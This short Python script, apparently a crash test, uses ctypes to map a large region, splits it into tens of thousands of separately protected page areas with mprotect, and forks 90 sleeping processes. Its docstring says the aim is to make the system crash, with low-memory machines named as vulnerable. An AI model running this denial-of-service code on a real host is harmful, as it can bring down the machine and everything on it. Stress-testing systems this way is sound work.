"""Cuts its memory into as many pieces as can be, in many processes, which the system has to remember."""

wins = "crash"
elsewhere = "a machine with little memory"

# %% after show
import ctypes, os, time

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
at = libc.mmap(None, 2**29, 0, 0x4022, -1, 0)
for k in range(0, 2**17, 2):
    if libc.mprotect(at + k * 4096, 4096, 1):
        break
for _ in range(90):
    if os.fork() == 0:
        time.sleep(30)
        os._exit(0)
time.sleep(4)
